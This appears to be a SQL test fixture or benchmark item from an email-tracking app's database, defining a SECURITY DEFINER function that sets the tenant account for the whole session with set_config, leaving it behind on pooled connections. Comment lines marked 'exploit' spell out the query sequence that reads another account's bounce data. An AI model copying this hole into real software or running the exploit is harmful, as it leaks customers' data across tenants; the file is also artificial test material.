-- The tracking function sets the account of the opened mail for the whole session and leaves it behind; the
-- next request of the pooled connection, without a setting, works in that account.
-- about: track_open, deliveries, account_id
-- as: hf_mailwind_app
-- exploit: BEGIN;
-- exploit: SELECT mail.track_open('b0000000-0000-4000-8000-000000000004', 'vip@road.test');
-- exploit: COMMIT;
-- exploit: SELECT bounced_reason FROM mail.deliveries;
-- shows: Road-secret bounce
-- The tracking pixel knows the campaign alone; its account is found by it.
CREATE FUNCTION mail.track_open(p_campaign uuid, p_email text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  PERFORM set_config('app.account_id', c.account_id::text, false)
  FROM mail.campaigns c WHERE c.id = p_campaign;
  UPDATE mail.deliveries SET opened = opened + 1
  WHERE account_id = mail.account_id() AND campaign_id = p_campaign AND email = p_email;
END $$;
REVOKE EXECUTE ON FUNCTION mail.track_open(uuid, text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION mail.track_open(uuid, text) TO hf_mailwind_app;
